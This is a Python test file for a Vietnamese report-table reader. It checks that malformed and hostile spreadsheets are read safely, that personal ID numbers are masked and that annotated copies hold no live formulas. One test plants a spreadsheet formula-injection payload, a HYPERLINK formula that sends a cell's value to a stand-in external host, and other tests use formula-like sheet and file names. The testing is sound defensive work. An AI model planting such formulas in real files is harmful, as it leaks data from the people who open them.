"""Hostile and broken result tables (tests/hostile_corpus.py): each is read right or its
problem named for its file, none stops the others, and nothing bakhong writes for a
spreadsheet holds a live formula."""

from __future__ import annotations

import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import hostile_corpus as hc
import polars as pl
import pytest
from conftest import ROOT, write_province
from openpyxl import load_workbook

import bakhong
from bakhong.checks import check
from bakhong.read import read_table, read_tables
from bakhong.synth.template import write
from bakhong.views.annotate import SUMMARY_SHEET, annotate
from bakhong.views.sheets import runs


def _after(table) -> dict[str, float | None]:
    frame = table.observations.filter(phase="after")
    return dict(zip(frame["indicator"], frame["value"], strict=True))


def _rules(table) -> dict[str, set[str]]:
    found = check(table.observations, table.findings)
    out: dict[str, set[str]] = {}
    for rule, indicator in found.select("rule", "indicator").rows():
        out.setdefault(rule, set()).add(indicator or "")
    return out


def _messages(table) -> str:
    return "\n".join(check(table.observations, table.findings)["message"].to_list())


@pytest.mark.parametrize("build", [hc.mixed_line_endings, hc.windows_1258, hc.utf16_table])
def test_line_endings_and_encodings_read_like_the_clean_file(tmp_path, build):
    table = read_table(build(tmp_path))
    clean = read_table(write(tmp_path / "386-ba-thuoc-sach-2024.csv", hc.document()))
    assert table.unit.code == "386" and table.period == "2024"
    assert _after(table) == _after(clean) and len(_after(table)) == 19


def test_invisible_characters_are_removed_before_a_figure_is_read(tmp_path):
    after = _after(read_table(hc.invisible_characters(tmp_path)))
    assert after["TC07"] == pytest.approx(0.4575)      # "4\u200b5,75%", not 5,75%
    assert after["TC08"] == pytest.approx(0.875)       # "8\u00a07,5\u00a0%"
    assert after["TC09"] == pytest.approx(0.9225)      # a right-to-left mark before it
    assert after["TC10"] == pytest.approx(0.93)        # a BOM inside it


def test_a_minus_sign_is_kept_and_a_negative_rate_is_an_error(tmp_path):
    table = read_table(hc.signed_rates(tmp_path))
    after = _after(table)
    assert after["TC07"] == pytest.approx(-0.12) and after["TC08"] == pytest.approx(-0.4575)
    assert _rules(table)["negative_value"] == {"TC07", "TC08"}


def test_excel_error_cells_and_uncached_formulas_are_named(tmp_path):
    table = read_table(hc.error_cells(tmp_path))
    assert len(_rules(table)["unparseable"]) == 3
    text = _messages(table)
    assert "#DIV/0!" in text and "#REF!" in text and "chưa được tính" in text
    assert sum(v is None for v in _after(table).values()) == 3


@pytest.mark.parametrize("ref", ["XFD1048576", "A1048576", "XFD1"])
def test_a_cell_typed_at_the_edge_of_the_sheet_is_read_in_part_and_said(tmp_path, ref):
    table = read_table(hc.far_cell(tmp_path, ref))
    assert len([v for v in _after(table).values() if v is not None]) == 19
    rules = _rules(table)
    if ref != "XFD1":   # 16.384 columns × 1 row fits: read whole, nothing to say
        assert "partly_read" in rules and ref[-7:] in _messages(table)


@pytest.mark.parametrize("how", ["styled", "other_sheet", "dimension"])
def test_a_sheet_claiming_the_last_cell_otherwise_is_read_whole(tmp_path, how):
    table = read_table(hc.far_cell(tmp_path, how=how))
    assert len([v for v in _after(table).values() if v is not None]) == 19
    assert set(_rules(table)) <= {"partly_read"}


@pytest.mark.parametrize("state", ["hidden", "veryHidden"])
def test_a_hidden_sheet_is_not_read_before_the_visible_one(tmp_path, state):
    table = read_table(hc.hidden_sheet_first(tmp_path, state))
    assert _after(table)["TC07"] == pytest.approx(0.92)   # the hidden draft says 11%
    assert "partly_read" not in _rules(table)


def test_a_table_only_on_a_hidden_sheet_is_read_and_said(tmp_path):
    table = read_table(hc.only_hidden_table(tmp_path))
    assert _after(table)["TC07"] == pytest.approx(0.91)
    assert "partly_read" in _rules(table) and "ẩn" in _messages(table)


@pytest.mark.parametrize("as_text", [False, True])
def test_a_date_in_a_rate_cell_is_a_finding_not_a_figure(tmp_path, as_text):
    table = read_table(hc.date_in_rate(tmp_path, as_text))
    assert _after(table)["TC07"] is None
    rules = _rules(table)
    assert "TC07" in rules["unparseable"] and "ratio_over_100" not in rules
    assert ("ngày" in _messages(table) or "20/4/2024" in _messages(table))
    assert "2.024" not in _messages(table) and "500" not in _messages(table)


@pytest.mark.parametrize(("header", "swapped"), [
    ("Kết quả (Trước / Sau triển khai)", False), ("Trước và sau khi triển khai", False),
    ("KẾT QUẢ THỰC HIỆN TRƯỚC - SAU", False), ("Kết quả sau / trước triển khai", True)])
def test_a_header_merged_across_both_result_columns_is_split_back(tmp_path, header, swapped):
    table = read_table(hc.merged_result_header(tmp_path, header, swapped))
    after = _after(table)
    assert len(after) == 19 and after["TC07"] == pytest.approx(0.92)
    before = table.observations.filter(phase="before")["value"]
    assert before.len() == 19 and before.to_list() == [pytest.approx(0.3)] * 19


def test_a_list_pasted_below_the_table_is_not_read_as_criteria(tmp_path):
    table = read_table(hc.long_sheet(tmp_path, rows=3_000))
    assert len(_after(table)) == 19
    assert "duplicate" not in _rules(table) and "unknown_indicator" not in _rules(table)


def test_a_broken_file_is_named_and_the_others_are_still_read(tmp_path):
    folder = tmp_path / "tables"
    folder.mkdir()
    hc.not_a_workbook(folder)
    hc.signed_rates(folder)
    observations, findings, _ = read_tables(sorted(folder.iterdir()))
    errors = {f.source for f in findings if f.rule == "load_error"}
    assert errors == {"386-ba-thuoc-cat-2024.xlsx", "386-ba-thuoc-html-2024.xlsx"}
    assert observations.filter(indicator="TC07", phase="after")["value"].to_list() == \
        [pytest.approx(-0.12)]


def _run(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(ROOT), "BAKHONG_HOME": str(cwd)}
    env.pop("BAKHONG_DEBUG", None)
    return subprocess.run([sys.executable, "-m", "bakhong.cli", *args], capture_output=True,
                          text=True, cwd=cwd, env=env, timeout=600)


def test_check_of_a_folder_of_every_hostile_table_never_crashes(tmp_path):
    for name, build in hc.TABLES.items():
        (tmp_path / name).mkdir()
        build(tmp_path / name)
    hc.long_name(tmp_path / "mixed_line_endings")
    out = _run("check", str(tmp_path), cwd=tmp_path)
    assert out.returncode == 1, out.stderr[-3000:]          # errors found, no exit 3
    assert "Traceback" not in out.stderr and "không mong đợi" not in out.stderr + out.stdout
    # every file is one unit's: the first by name is kept, the others' cells compared with it
    for needle in ("negative_value", "duplicate", "386-ba-thuoc-cat-2024.xlsx",
                   "386-ba-thuoc-html-2024.xlsx"):
        assert needle in out.stdout


def _formulas(path: Path) -> int:
    with zipfile.ZipFile(path) as archive:
        return sum(len(re.findall(rb"<(?:\w+:)?f[ >/]", archive.read(name)))
                   for name in archive.namelist() if name.startswith("xl/worksheets/"))


def _live_texts(path: Path) -> list[str]:
    """Text cells a spreadsheet would run: no "'" before them and no quote-prefix mark."""
    book = load_workbook(path)
    return [c.value for ws in book for row in ws.iter_rows() for c in row
            if isinstance(c.value, str) and runs(c.value) and not c.quotePrefix]


def test_annotated_copy_of_a_csv_with_formulas_in_its_text_holds_none(tmp_path):
    result = annotate(hc.injected_csv(tmp_path), tmp_path / "out")
    assert _formulas(result.path) == 0 and _live_texts(result.path) == []
    book = load_workbook(result.path)
    texts = {c.value for ws in book for row in ws.iter_rows() for c in row}
    assert hc.INJECTIONS[1] in texts       # the district's text kept as it wrote it, as text
    summary = [c.value for row in book[SUMMARY_SHEET].iter_rows() for c in row if c.value]
    assert not [t for t in summary if isinstance(t, str) and t.startswith("=")]


def test_annotated_copy_of_a_workbook_keeps_values_not_formulas(tmp_path):
    path = write(tmp_path / "386-ba-thuoc-2024.xlsx", hc.document())
    book = load_workbook(path)
    sheet = book.active
    sheet["H3"] = '=HYPERLINK("http://x.example/?d="&E10,"Xem")'
    sheet["H4"] = "=1+1"
    sheet["H5"] = "@SUM(1)"
    book.save(path)
    result = annotate(path, tmp_path / "out")
    assert _formulas(result.path) == 0 and _live_texts(result.path) == []
    copy = load_workbook(result.path)
    notes = " ".join(str(c.value) for row in copy[SUMMARY_SHEET].iter_rows() for c in row)
    assert "2 ô công thức" in notes


def test_a_sheet_named_like_a_formula_is_text_in_the_summary(tmp_path):
    result = annotate(hc.injected_sheet_name(tmp_path), tmp_path / "out")
    assert result.findings == 1 and _formulas(result.path) == 0
    where = [c.value for c in load_workbook(result.path)[SUMMARY_SHEET]["G"] if c.value]
    assert "'=1+2 Bao cao!E17" in where


def test_a_250_byte_file_name_is_checked_and_annotated(tmp_path):
    path = hc.long_name(tmp_path)
    assert len(path.name.encode()) == 250
    result = annotate(path, tmp_path / "out")
    assert len(result.path.name.encode()) <= 255 and result.path.suffix == ".xlsx"
    assert result.findings == 1 and result.path.is_file()
    out = _run("annotate", str(path), "--out", str(tmp_path / "cli"), cwd=tmp_path)
    assert out.returncode == 0 and "Traceback" not in out.stderr


def test_a_100000_row_sheet_is_checked_and_its_copy_holds_only_the_table(tmp_path):
    path = hc.long_sheet(tmp_path)
    table = read_table(path)
    assert len(_after(table)) == 19 and "duplicate" not in _rules(table)
    result = annotate(path, tmp_path / "out")
    book = load_workbook(result.path, read_only=True)
    assert book["Bao cao"].max_row < 100
    notes = " ".join(str(c.value) for row in book[SUMMARY_SHEET].iter_rows() for c in row)
    assert "chỉ chép dòng 1–" in notes


def test_explorer_exports_hold_no_formula_from_a_districts_file(tmp_path):
    root = write_province(tmp_path / "p", districts=2)
    doc = hc.document(unit="UBND huyện Nga Sơn", TC09={"evidence": hc.INJECTIONS[1]})
    write(root / "data" / "raw" / "tables" / "=1+2 nga son 2024.csv", doc)
    ex = bakhong.explore(root=root, indicator="TC09", interactive=True)
    paths = ex.export(tmp_path / "out")
    for key in ("csv", "findings_csv"):
        frame = pl.read_csv(paths[key], separator=";", infer_schema=False)
        risky = [v for c in frame.columns for v in frame[c].drop_nulls() if runs(v)]
        assert risky == [], key
    assert "'=1+2 nga son 2024.csv!" in paths["csv"].read_text(encoding="utf-8-sig")
    assert _formulas(paths["xlsx"]) == 0 and _live_texts(paths["xlsx"]) == []


def test_no_hostile_table_reaches_the_last_resort(tmp_path):
    for name, build in hc.TABLES.items():
        (tmp_path / name).mkdir()
        build(tmp_path / name)
    read, broken = 0, []
    for path in sorted(tmp_path.rglob("*.*")):   # one by one: they are all one unit's
        observations, findings, _ = read_tables([path])
        assert not [f for f in findings if "không mong đợi" in f.message], path.name
        read += observations.height > 0
        broken += [f.source for f in findings if f.rule == "load_error"]
    assert sorted(broken) == ["386-ba-thuoc-cat-2024.xlsx", "386-ba-thuoc-html-2024.xlsx"]
    assert read == len(hc.TABLES) - 1           # every other builder's file gave figures


def test_an_error_of_no_known_kind_is_the_files_load_error_and_the_others_go_on(
        tmp_path, monkeypatch):
    from bakhong.read import discover

    good = hc.signed_rates(tmp_path)
    bad = write(tmp_path / "382-sam-son-2024.xlsx", hc.document(unit="UBND thành phố Sầm Sơn"))
    real = discover.read_source

    def failing(path, **kwargs):
        if Path(path) == bad:
            raise KeyError("a reader's own bug")
        return real(path, **kwargs)

    monkeypatch.setattr(discover, "read_source", failing)
    observations, findings, _ = read_tables([good, bad])
    assert set(observations["unit_code"]) == {"386"}
    error = next(f for f in findings if f.rule == "load_error")
    assert error.source == bad.name and "không mong đợi" in error.message
    assert "a reader's own bug" not in error.message


def test_a_phone_or_cccd_typed_in_a_table_never_leaves_the_loader(tmp_path):
    root = tmp_path / "project"
    tables = root / "data" / "raw" / "tables"
    tables.mkdir(parents=True)
    path = hc.personal_in_table(tables)
    table = read_table(path)
    frame = table.observations
    assert "[số cá nhân đã ẩn]" in " ".join(frame["evidence"].drop_nulls().to_list())
    found = check(frame, table.findings)
    assert {"TC07", "TC09"} <= set(found["indicator"])   # named, with their cells
    runs = [_run("ingest", cwd=root), _run("check", str(tables), cwd=root),
            _run("check", str(tables), "--json", cwd=root), _run("show", str(path), "--json",
                                                                  cwd=root)]
    assert all(r.returncode in (0, 1) and "Traceback" not in r.stderr for r in runs)
    texts = [r.stdout + r.stderr for r in runs]
    for parquet in (root / "data" / "processed").glob("*.parquet"):
        cells = pl.read_parquet(parquet).select(pl.all().cast(pl.String))
        texts.append(" ".join(str(v) for row in cells.rows() for v in row))
    texts.append(str(found.to_dicts()) + str(frame.to_dicts()))
    digits = [re.sub(r"\D", "", p) for p in hc.PERSONAL]
    leaks = [p for t in texts for p in hc.PERSONAL + digits if p in re.sub(r"[ .]", "", t)
             or p in t]
    assert leaks == []


def test_a_phone_or_cccd_in_a_narrative_sentence_never_leaves_the_loader(tmp_path):
    from bakhong.read import read_source

    path = tmp_path / "ba-thuoc-2024.md"
    path.write_text(
        "UBND huyện Bá Thước\n\nBÁO CÁO kết quả thực hiện mô hình 3 KHÔNG năm 2024\n\n"
        f"Tỷ lệ người dân có tài khoản định danh điện tử đạt 92% (cán bộ phụ trách "
        f"{hc.PERSONAL[0]}, CCCD {hc.PERSONAL[1]}).\n\nCó 48% hộ gia đình (liên hệ "
        f"{hc.PERSONAL[2]}) đã được thăm hỏi.\n", encoding="utf-8")
    table = read_source(path)
    frames = [f for f in (table.observations, table.claims, table.review) if f is not None]
    text = " ".join(str(v) for f in frames for row in f.rows() for v in row)
    assert "92" in text and "[số cá nhân đã ẩn]" in text
    assert not [p for p in hc.PERSONAL if p in text or re.sub(r"\D", "", p) in
                re.sub(r"\D", "", text)]
